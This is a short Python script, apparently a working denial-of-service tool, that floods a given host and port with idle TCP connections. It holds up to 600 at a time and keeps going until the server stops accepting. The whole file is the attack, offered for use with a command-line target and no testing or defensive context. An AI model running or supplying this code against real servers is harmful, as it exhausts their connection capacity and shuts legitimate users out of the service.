"""Takes all that another user can take of a server: `flood.py HOST:PORT`. Keeps connections open without a request, and opens
another for each that the server ends. Prints their number when there are many; ends when nobody listens any more."""

import socket
import sys

MANY = 600

host, port = sys.argv[1].rsplit(":", 1)
open_ones = []
made = 0
while True:
    try:
        open_ones.append(socket.create_connection((host, int(port)), timeout=5))
    except ConnectionRefusedError:
        break
    except OSError:
        pass
    made += 1
    if made == MANY:
        print(made, flush=True)
    if len(open_ones) == MANY:
        open_ones.pop(0).close()
